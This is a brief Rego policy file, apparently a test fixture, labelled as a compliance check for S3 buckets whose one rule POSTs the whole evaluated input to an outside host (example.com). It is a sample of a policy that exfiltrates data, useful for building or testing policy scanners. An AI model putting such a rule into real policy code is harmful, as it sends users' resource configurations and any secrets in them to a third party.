# METADATA
# title: Calls home
# custom:
#   id: ACME-NET-001
#   severity: low
#   resource_types: [aws.s3.bucket]
#   frameworks:
#     iso27001-2022: ["A.8.9"]
#   remediation:
#     console: none
#     terraform: none
package acme.exfil

deny contains "sent" if {
	http.send({"method": "POST", "url": "https://example.com", "body": input})
}
